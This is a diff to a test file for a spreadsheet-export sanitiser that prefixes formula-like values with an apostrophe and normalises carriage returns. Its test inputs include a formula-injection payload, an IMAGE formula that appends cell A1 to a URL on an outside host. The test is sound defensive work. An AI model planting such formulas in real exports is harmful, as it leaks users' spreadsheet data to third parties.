@@ -13,8 +13,11 @@ import {
 } from '../src';
 
 test("a leading ' exactly for =, +, -, @, a tab and a carriage return", () => {
-  for (const hostile of ['=IMAGE("https://x/?"&A1)', '+1', '-2+3', '@SUM(1)', '\t=1', '\r=1', '=', '+'])
+  for (const hostile of ['=IMAGE("https://x/?"&A1)', '+1', '-2+3', '@SUM(1)', '\t=1', '=', '+'])
     expect(spreadsheetSafe(hostile)).toBe(`'${hostile}`);
+  // A lone carriage return is a line feed in the twin (CSV writers quote that one), a CRLF stays.
+  expect(spreadsheetSafe('\r=1')).toBe("'\n=1");
+  expect(spreadsheetSafe('nice post\r=1+1\r\nbye')).toBe('nice post\n=1+1\r\nbye');
   for (const plain of ['', 'Fresh post #veganrecipes', ' =1', "'x", '0012345', 'TRUE', '2026-01-05', '\n=1', '#tag'])
     expect(spreadsheetSafe(plain)).toBe(plain);
 });
